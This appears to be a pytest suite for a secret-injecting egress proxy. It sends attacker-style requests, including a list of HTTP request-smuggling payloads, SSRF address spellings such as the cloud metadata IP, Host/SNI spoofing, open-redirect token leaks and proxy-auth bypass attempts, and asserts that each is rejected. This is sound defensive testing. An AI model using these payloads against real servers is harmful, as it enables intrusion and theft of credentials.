"""Attacks on where a secret goes: each is sent as an attacker would, and the hostile server's log is searched."""

import base64
import json
import socket
import ssl
import subprocess
import sys
import time
from pathlib import Path

import pytest
import trustme
from support.broker_world import KEY, Upstream, everything


@pytest.fixture
def both(world, both_sessions):
    yield both_sessions
    assert KEY not in (world.evil.directory / "log").read_text()


def request(client, text, **more):
    return client.request(
        text.format(key=client["KEY"], up=client.world.up.port, evil=client.world.evil.port), **more
    )


def test_22_the_tunnel_decides_not_the_host_header(world, both):
    answer = request(
        both,
        "GET /v1/x HTTP/1.1\nHost: api.test:{up}\nAuthorization: {key}\n\n",
        host="evil.test",
        port=world.evil.port,
    )
    assert answer.status == 400
    assert answer.reason == "host_mismatch"
    assert world.evil.requests() == []


def test_23_a_host_header_of_another_host_in_an_allowed_tunnel(world, both):
    answer = request(both, "GET /v1/x HTTP/1.1\nHost: evil.test:{evil}\nAuthorization: {key}\n\n")
    assert (answer.status, answer.reason) == (400, "host_mismatch")
    assert world.up.requests() == []


def test_24_another_name_in_the_handshake(world, both):
    with pytest.raises((ssl.SSLError, OSError)):
        both.open("api.test", sni="evil.test")
    assert world.up.log() == []


@pytest.mark.parametrize(
    "target", ["https://evil.test:{evil}/v1/x", "http://evil.test/v1/x", "evil.test:{evil}", "*"]
)
def test_25_an_absolute_target_inside_a_tunnel(world, both, target):
    answer = request(both, f"GET {target} HTTP/1.1\nHost: api.test:{{up}}\nAuthorization: {{key}}\n\n")
    assert answer.status == 400
    assert world.up.requests() == world.evil.requests() == []


@pytest.mark.parametrize(
    "header",
    [
        "X-Target-Host: evil.test",
        "X-Forwarded-Host: evil.test",
        "X-Original-URL: /v2/admin",
        "Forwarded: host=evil.test",
    ],
)
def test_26_headers_that_name_another_host_change_nothing(world, both, header):
    answer = request(both, f"GET /v1/x HTTP/1.1\nHost: api.test:{{up}}\n{header}\nAuthorization: {{key}}\n\n")
    assert answer.status == 200
    (seen,) = world.up.requests()
    assert f"Host: api.test:{world.up.port}" in seen["head"]
    assert world.evil.log() == []


def test_26_a_pseudo_header_is_no_header(both):
    assert request(both, "GET /v1/x HTTP/1.1\nHost: api.test:{up}\n:authority: evil.test\n\n").status == 400


SMUGGLING = {
    "two framings": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: H\r\n\r\n",
    "two lengths": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: H\r\n\r\n",
    "same length twice": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc",
    "lengths in one line": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 3, 3\r\n\r\nabc",
    "signed length": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: +3\r\n\r\nabc",
    "blank before the colon": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length : 3\r\n\r\nabc",
    "folded header": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nX-A: 1\r\n b\r\n\r\n",
    "folded coding": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "bare line feed": b"GET /v1/x HTTP/1.1\nHost: H\n\n",
    "bare line feed in a header": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nX-A: 1\nX-B: 2\r\n\r\n",
    "bare carriage return": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nX-A: 1\rX-B: 2\r\n\r\n",
    "bad chunk terminator": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabcXX0\r\n\r\n",
    "bad chunk size": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n",
    "odd coding": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "coding twice": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "chunked in HTTP/1.0": b"POST /v1/x HTTP/1.0\r\nHost: H\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "NUL": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nX-A: a\0b\r\n\r\n",
    "two hosts": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nHost: evil.test\r\n\r\n",
    "no host": b"GET /v1/x HTTP/1.1\r\nX-A: 1\r\n\r\n",
    "blank in the target": b"GET /v1/x y HTTP/1.1\r\nHost: H\r\n\r\n",
    "tab in the request line": b"GET\t/v1/x\tHTTP/1.1\r\nHost: H\r\n\r\n",
    "bytes in the target": b"GET /v1/\xc3\xa9 HTTP/1.1\r\nHost: H\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "Connection names the length": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 3\r\nConnection: content-length\r\n\r\nabc",
    "expects what nobody does": b"POST /v1/x HTTP/1.1\r\nHost: H\r\nContent-Length: 3\r\nExpect: 200-maybe\r\n\r\nabc",
    "a head of 70 KiB": b"GET /v1/x HTTP/1.1\r\nHost: H\r\nX-A: " + b"a" * 70000 + b"\r\n\r\n",
}  # fmt: skip


@pytest.mark.parametrize("kind", SMUGGLING)
def test_27_a_message_that_could_be_framed_in_two_ways(world, both, kind):
    raw = SMUGGLING[kind].replace(b"Host: H", b"Host: api.test:%d" % world.up.port)
    with both.open() as connection:
        connection.sendall(raw)
        said = everything(connection)
    assert said.startswith((b"HTTP/1.1 400", b"HTTP/1.1 413")), said
    assert said.count(b"HTTP/1.1 4") == 1  # and the connection was closed
    assert "smuggled" not in json.dumps(world.up.log())
    assert not [record for record in world.up.requests() if "bad" not in kind]


def test_28_a_placeholder_in_clear_text(world, both):
    for port in (80, world.up.port):
        said = both.proxied(f"http://api.test:{port}/v1/x", f"Authorization: {both['KEY']}", host="api.test")
        assert said.startswith(b"HTTP/1.1 403"), said
        assert b'"reason": "cleartext"' in said
    assert world.events(event="misuse", reason="cleartext", secrets=["KEY"])
    assert world.up.requests() == []


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "[::1]",
        "169.254.169.254",
        "0x7f.1",
        "2130706433",
        "127.1",
        "[::ffff:127.0.0.1]",
        "0",
        "localhost",
    ],
)
def test_29_addresses_instead_of_names(both, host):
    connection, head = both.tunnel(f"{host}:{both.world.up.port}")
    connection.close()
    assert head.startswith(b"HTTP/1.1 403"), head


def test_29_a_name_that_leads_to_this_machine(world):
    world.config("")  # only public addresses
    with world.session() as client:
        answer = client.get("/v1/x", f"Authorization: {client['KEY']}")
    assert (answer.status, answer.reason) == (403, "address_not_allowed")
    assert world.up.log() == []


def in_namespace(world, tmp_path):
    """The names served by a DNS of the test's own, in a network of its own; returns what that saw."""
    for name, text in (
        ("resolv.conf", "nameserver 127.0.0.1\noptions attempts:1 timeout:1\n"),
        ("nsswitch.conf", "hosts: dns\n"),
        ("hosts", ""),
    ):
        (tmp_path / name).write_text(text)
    binds = []
    for name in ("resolv.conf", "nsswitch.conf", "hosts"):
        target = Path("/etc", name)
        binds += ["--bind", str(tmp_path / name), str(target.resolve() if target.exists() else target)]
    done = subprocess.run(
        [
            "bwrap", "--unshare-user", "--uid", "0", "--unshare-net", "--cap-add", "CAP_NET_BIND_SERVICE", "--cap-add",
            "CAP_NET_ADMIN", "--dev-bind", "/", "/", "--tmpfs", "/run", *binds, "--die-with-parent", "--",
            sys.executable, str(Path(__file__).parents[1] / "support" / "broker_names.py"), str(tmp_path), str(world.root),
            str(world.up.directory / "chain.pem"), str(world.path / "key"),
        ],
        capture_output=True, text=True, timeout=60, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.splitlines()[-1])


def test_30_31_one_lookup_an_allowed_name_and_none_for_a_denied_one(world, tmp_path):
    seen = in_namespace(world, tmp_path)
    assert seen["answers"] == [200, 200], seen  # two connections; the second lookup would have said 127.0.0.1
    assert seen["refused"] != 0
    names = {name for name, _ in seen["queries"]}
    assert names == {"api.test"}
    assert sum(kind == 1 for _, kind in seen["queries"]) == 1


@pytest.mark.parametrize("kind", ["wrong name", "expired", "self-signed"])
def test_32_a_certificate_that_does_not_verify(world, tmp_path, kind):
    import datetime as dt

    past = dt.datetime(2020, 1, 1, tzinfo=dt.UTC)
    if kind == "wrong name":
        certificate = world.ca.issue_cert("somebody.else.test")
    elif kind == "expired":
        certificate = world.ca.issue_cert("api.test", not_after=past)
    else:
        certificate = trustme.CA().issue_cert("api.test")
    server = Upstream(tmp_path / "bad", world.ca, certificate=certificate)
    try:
        with world.session(world.rule(port=server.port)) as client:
            answer = client.get("/v1/x", f"Authorization: {client['KEY']}", port=server.port)
        assert (answer.status, answer.reason) == (502, "upstream_not_verified")
        assert server.requests() == []
        assert KEY not in (server.directory / "log").read_text()
    finally:
        server.close()


def test_33_a_redirect_to_another_host_carries_a_placeholder(world, both):
    where = f"https%3A//evil.test%3A{world.evil.port}/v1/x"
    answer = both.get(f"/v1/redir?{where}", f"Authorization: Bearer {both['KEY']}")
    assert answer.status == 302
    assert answer.headers["location"].endswith(f"?token={both['KEY']}")
    followed = both.get(f"/v1/x?token={both['KEY']}", host="evil.test", port=world.evil.port)
    assert (followed.status, followed.reason) == (403, "host_not_allowed")
    assert world.evil.requests() == []


@pytest.mark.parametrize("given", ["", "Basic c3I6", "Basic {half}", "Bearer x", "Basic ###"])
def test_34_without_the_proxys_password(world, both, given):
    half = base64.b64encode(f"sr:{both.password[:20]}".encode()).decode()
    lines = ["CONNECT api.test:443 HTTP/1.1", "Host: api.test:443"]
    if given:
        lines.append(f"Proxy-Authorization: {given.format(half=half)}")
    said = both.ask("\r\n".join([*lines, "", ""]).encode())
    assert said.startswith(b"HTTP/1.1 407")
    assert b"Proxy-Authenticate: Basic" in said
    assert world.events(event="auth_failed")


def test_34_the_password_is_compared_in_constant_time():
    """By `hmac.compare_digest`, whose time does not depend on where two texts differ."""
    import inspect

    from secretrun.broker.session import Session

    assert "compare_digest" in inspect.getsource(Session.admits)


@pytest.mark.parametrize(
    ("rule", "host", "fits"),
    [
        ("api.test", "API.Test", True), ("api.test", "api.test.", True), ("API.test.", "api.test", True),
        ("bücher.test", "xn--bcher-kva.test", True), ("*.wild.test", "one.wild.test", True),
        ("api.test", "xapi.test", False), ("api.test", "api.test.evil.test", False), ("*.test", "test", False),
        ("*.wild.test", "wild.test", False),
    ],
)  # fmt: skip
def test_35_spellings_of_a_host(world, rule, host, fits):
    if rule == "*.test":
        done = world.run("true", grants=[world.rule(host=rule)])
        assert (done.returncode, "nearly every host" in done.stderr) == (125, True)
        return
    with world.session(world.rule(host=rule)) as client:
        connection, head = client.tunnel(f"{host}:{world.up.port}")
        connection.close()
        assert head.startswith(b"HTTP/1.1 200" if fits else b"HTTP/1.1 403")
        if fits:
            assert client.get("/v1/x", f"Authorization: {client['KEY']}", host=host).status == 200
            (seen,) = world.up.requests()
            canonical = host.lower().removesuffix(".")
            assert f"Host: {canonical}:{world.up.port}" in seen["head"]


def test_something_between_connect_and_its_answer(both):
    """What is sent before the proxy has answered could be taken for the inside of the tunnel, or not."""
    port = both.world.up.port
    said = both.ask(
        f"CONNECT api.test:{port} HTTP/1.1\r\nProxy-Authorization: Basic {both.credentials}\r\n\r\nGET / HTTP/1.1\r\n\r\n".encode()
    )
    assert said.startswith(b"HTTP/1.1 400")


def test_an_origin_form_request_to_the_proxy(both):
    said = both.ask(
        f"GET / HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic {both.credentials}\r\n\r\n".encode()
    )
    assert said.startswith(b"HTTP/1.1 400")
    assert b"not_a_proxy_request" in said


def test_opaque_tunnels_only_where_they_were_asked_for(world):
    with world.session(options=["--egress", "tunnel"]) as client:
        connection, head = client.tunnel(f"evil.test:{world.evil.port}")
        assert head.startswith(b"HTTP/1.1 200")
        context = ssl.create_default_context(cafile=world.root)
        with context.wrap_socket(connection, server_hostname="evil.test") as inside:
            inside.sendall(
                f"GET /v1/x HTTP/1.1\r\nHost: evil.test\r\nX-Key: {client['KEY']}\r\n\r\n".encode()
            )
            assert inside.recv(12) == b"HTTP/1.1 200"
    (seen,) = world.evil.requests()
    assert KEY not in seen["head"]
    assert world.events(event="tunnel", host="evil.test")


def test_a_client_that_goes_away_takes_its_request_along(world):
    with world.session() as client:
        connection = client.open()
        connection.sendall(f"GET /v1/slow?5 HTTP/1.1\r\nHost: api.test:{world.up.port}\r\n\r\n".encode())
        deadline = time.monotonic() + 5
        while not world.up.requests():
            assert time.monotonic() < deadline
        connection.shutdown(socket.SHUT_RDWR)
        connection.close()
        assert client.get("/v1/x").status == 200  # nobody waits for it
